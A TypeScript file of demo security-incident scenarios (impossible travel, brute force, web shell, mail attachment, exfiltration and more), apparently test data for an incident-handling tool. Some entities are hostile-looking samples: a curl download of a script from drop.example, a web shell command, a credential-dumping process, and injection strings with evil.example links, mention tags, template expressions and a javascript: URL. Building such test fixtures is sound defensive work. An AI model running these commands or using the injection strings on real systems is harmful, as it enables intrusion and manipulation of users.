import {
  account,
  azureResource,
  file,
  fileHash,
  host,
  ip,
  mailMessage,
  process,
  resourceId,
  url,
} from './entities.ts';
import type { IncidentSpec } from './specs.ts';

/** A kind of incident for demos. */
export interface Scenario {
  /** What the control surface calls it. */
  name: string;
  /** For a person who chooses one. */
  title: string;
  /** The n-th of its kind, n from 1: hosts, users and addresses vary with n. */
  build(n: number): IncidentSpec;
}

const pick = <T>(list: T[], n: number): T => list[n % list.length] as T;
const USERS = ['ana.costa', 'ben.okafor', 'chen.wei', 'dara.nolan', 'eva.lind'];
const upn = (n: number) => `${pick(USERS, n)}@contoso.example`;
const attacker = (n: number) => `203.0.113.${(n % 250) + 1}`;
const payHost = (n: number) => pick(['pay-web-01', 'pay-web-02', 'pay-db-01', 'pay-api-01'], n);
const shopHost = (n: number) => pick(['shop-web-01', 'shop-web-02', 'shop-cart-01'], n);
const defenderUrl = (id: number) =>
  `https://security.microsoft.com/incident2/${id}/overview?tid=00000000-0000-4000-8000-0000000000aa`;
const SHA256 = '9f2b1c7d4e5a60718293a4b5c6d7e8f90123456789abcdef0123456789abcdef';

/** The demo incidents, of the payments team (rg-payments, pay-*), the web shop (rg-webshop, shop-*) and of nobody. */
export const scenarios: Scenario[] = [
  {
    name: 'impossible-travel',
    title: 'Impossible travel of a payments user',
    build: (n) => ({
      title: `Impossible travel: ${upn(n)}`,
      description: 'The same user signed in from two places that are too far apart for the time between.',
      severity: 'Medium',
      alerts: [
        {
          title: 'Impossible travel activity',
          ruleName: 'Impossible travel',
          tactics: ['InitialAccess'],
          techniques: ['T1078'],
          productName: 'Microsoft Entra ID Protection',
        },
      ],
      entities: [account(upn(n)), ip(attacker(n)), ip('198.51.100.24'), host(payHost(n), 'rg-payments')],
    }),
  },
  {
    name: 'brute-force',
    title: 'Brute force on a payments host',
    build: (n) => ({
      title: `Brute force against ${payHost(n)}`,
      description: 'Many failed SSH sign-ins from one address, then one that succeeded.',
      severity: 'High',
      alerts: [
        {
          title: 'SSH brute force, successful',
          severity: 'High',
          ruleName: 'SSH brute force then success',
          tactics: ['CredentialAccess', 'InitialAccess'],
          techniques: ['T1110', 'T1078'],
          compromisedEntity: payHost(n),
        },
      ],
      entities: [host(payHost(n), 'rg-payments'), ip(attacker(n)), account('root')],
    }),
  },
  {
    name: 'malicious-deployment',
    title: 'Malicious deployment in rg-payments',
    build: (n) => ({
      title: 'Suspicious deployment in rg-payments',
      description: 'A principal that never deployed before created a container that downloads a script.',
      severity: 'High',
      labels: ['azure-activity'],
      alerts: [
        {
          title: 'Suspicious resource deployment',
          severity: 'High',
          ruleName: 'Deployment by a new principal',
          tactics: ['Execution', 'Persistence'],
          techniques: ['T1610'],
        },
      ],
      entities: [
        azureResource(resourceId('rg-payments', 'Microsoft.App/containerApps', 'pay-settlement')),
        account(upn(n)),
        process('curl -s https://drop.example/i.sh'),
        url('https://drop.example/i.sh'),
      ],
    }),
  },
  {
    name: 'suspicious-mail',
    title: 'Suspicious mail with an attachment',
    build: (n) => ({
      title: `Mail with malicious attachment delivered to ${upn(n)}`,
      description: 'A mail that imitates a supplier carried a macro and was delivered.',
      severity: 'Medium',
      alerts: [
        {
          title: 'Malicious attachment delivered',
          ruleName: 'Malware in delivered mail',
          tactics: ['InitialAccess'],
          techniques: ['T1566.001'],
          productName: 'Microsoft Defender for Office 365',
        },
      ],
      entities: [
        mailMessage('billing@supplier.example', upn(n), 'Overdue invoice 4471', { senderIP: attacker(n) }),
        account(upn(n)),
        file('/tmp', 'invoice-4471.docm'),
        fileHash(SHA256),
      ],
    }),
  },
  {
    name: 'storage-exfiltration',
    title: 'Data exfiltration from the payments storage',
    build: (n) => ({
      title: 'Unusual amount of data read from stpaymentsexport',
      description:
        '48 GB were read from a storage account within ten minutes by an address never seen before.',
      severity: 'High',
      alerts: [
        {
          title: 'Unusual data extraction',
          severity: 'High',
          ruleName: 'Mass download from storage',
          tactics: ['Exfiltration'],
          techniques: ['T1530'],
          productName: 'Microsoft Defender for Cloud',
        },
      ],
      entities: [
        azureResource(resourceId('rg-payments', 'Microsoft.Storage/storageAccounts', 'stpaymentsexport')),
        ip(attacker(n)),
      ],
    }),
  },
  {
    name: 'webshop-webshell',
    title: 'Web shell on a web shop host',
    build: (n) => ({
      title: `Web shell on ${shopHost(n)}`,
      description: 'The web server wrote a script file and ran it.',
      severity: 'High',
      alerts: [
        {
          title: 'Possible web shell',
          severity: 'High',
          ruleName: 'Web server wrote a script',
          tactics: ['Persistence', 'Execution'],
          techniques: ['T1505.003'],
          productName: 'Microsoft Defender for Endpoint',
        },
      ],
      entities: [
        host(shopHost(n), 'rg-webshop'),
        file('/var/www/html/img', 'thumb.php'),
        fileHash(SHA256),
        process('php thumb.php -c id'),
        ip(attacker(n)),
      ],
    }),
  },
  {
    name: 'webshop-scan',
    title: 'Scan of the web shop (low)',
    build: (n) => ({
      title: `Scan of ${shopHost(n)} from ${attacker(n)}`,
      description: 'One address asked for 4,000 paths that do not exist.',
      severity: 'Low',
      alerts: [
        {
          title: 'Web scan',
          severity: 'Low',
          ruleName: 'Many 404 answers to one address',
          tactics: ['Reconnaissance'],
          techniques: ['T1595'],
        },
      ],
      entities: [
        host(shopHost(n), 'rg-webshop'),
        ip(attacker(n)),
        url('https://shop.contoso.example/wp-login.php'),
      ],
    }),
  },
  {
    name: 'defender',
    title: 'Multi-stage incident from Microsoft Defender XDR, with no description',
    build: (n) => ({
      title: `Multi-stage incident on ${payHost(n)} reported by multiple sources`,
      severity: 'High',
      providerName: 'Microsoft XDR',
      providerIncidentId: String(9700 + n),
      providerIncidentUrl: defenderUrl(9700 + n),
      alerts: [
        {
          title: 'Credential dumping tool',
          severity: 'High',
          tactics: ['CredentialAccess'],
          techniques: ['T1003'],
          productName: 'Microsoft Defender for Endpoint',
        },
        {
          title: 'Sign-in from an anonymous address',
          tactics: ['InitialAccess'],
          techniques: ['T1078'],
          productName: 'Microsoft Entra ID Protection',
        },
      ],
      entities: [
        host(payHost(n), 'rg-payments'),
        account(upn(n)),
        ip(attacker(n)),
        process('lsadump.bin --all'),
      ],
    }),
  },
  {
    name: 'unknown-entity',
    title: 'Incident with an entity of a kind nobody knows',
    build: (n) => ({
      title: 'Token replay against the build pipeline',
      description: 'A token of the pipeline was used from outside.',
      severity: 'Medium',
      alerts: [
        {
          title: 'Token replay',
          ruleName: 'Pipeline token from a new address',
          tactics: ['CredentialAccess'],
          techniques: ['T1528'],
        },
      ],
      entities: [
        { kind: 'QuantumLedger', properties: { friendlyName: 'ledger-7', ledgerId: '7', shards: [1, 2, 3] } },
        ip(attacker(n)),
      ],
    }),
  },
  {
    name: 'non-latin',
    title: 'Title in Japanese and Arabic',
    build: (n) => ({
      title: `不審なサインイン ${n} — تسجيل دخول مشبوه 🚨`,
      description: 'サインインが通常と異なる場所から行われました。',
      severity: 'Medium',
      alerts: [
        {
          title: '不審なサインイン',
          ruleName: 'サインインの異常',
          tactics: ['InitialAccess'],
          techniques: ['T1078'],
        },
      ],
      entities: [account('山田.太郎@contoso.example'), ip('2001:db8::7'), host(shopHost(n), 'rg-webshop')],
    }),
  },
  {
    name: 'many-alerts',
    title: '150 alerts in one incident',
    build: (n) => ({
      title: `Password spray against 150 accounts from ${attacker(n)}`,
      description: 'One address tried the same few passwords on many accounts.',
      severity: 'Medium',
      alerts: Array.from({ length: 150 }, (_, i) => ({
        title: `Password spray, account ${i + 1}`,
        ruleName: 'Password spray',
        tactics: ['CredentialAccess'],
        techniques: ['T1110.003'],
      })),
      entities: [
        ip(attacker(n)),
        ...Array.from({ length: 40 }, (_, i) => account(`user${i + 1}@contoso.example`)),
      ],
    }),
  },
  {
    name: 'hostile-text',
    title: 'Title and entities written by an attacker',
    build: (n) => ({
      title: '[click](https://evil.example) <at>all</at> ${1+1} **urgent** {{user}}',
      description:
        '<b>Sign in</b> at https://evil.example/login\n![x](https://evil.example/x.png) ${json(.)}',
      severity: 'Low',
      labels: ['[tag](https://evil.example)'],
      alerts: [
        {
          title: '<at>everyone</at> [open](https://evil.example)',
          ruleName: '${rule}',
          tactics: ['Impact'],
          techniques: ['T1491'],
        },
      ],
      entities: [
        host('[pay-web-01](https://evil.example)', 'rg-payments', { netBiosName: '<at>all</at>' }),
        account('${1+1}@evil.example'),
        file('C:\\<script>', '](https://evil.example)'),
        url(`https://evil.example/?q=${n}&next=javascript:alert(1)`),
      ],
    }),
  },
  {
    name: 'informational',
    title: 'Informational: first sign-in of a service account',
    build: (n) => ({
      title: `First sign-in of svc-pay-${n}`,
      description: 'A service account was used for the first time.',
      severity: 'Informational',
      alerts: [
        { title: 'New service account used', severity: 'Informational', ruleName: 'New service account' },
      ],
      entities: [account(`svc-pay-${n}@contoso.example`), host('build-01', 'rg-build')],
    }),
  },
];
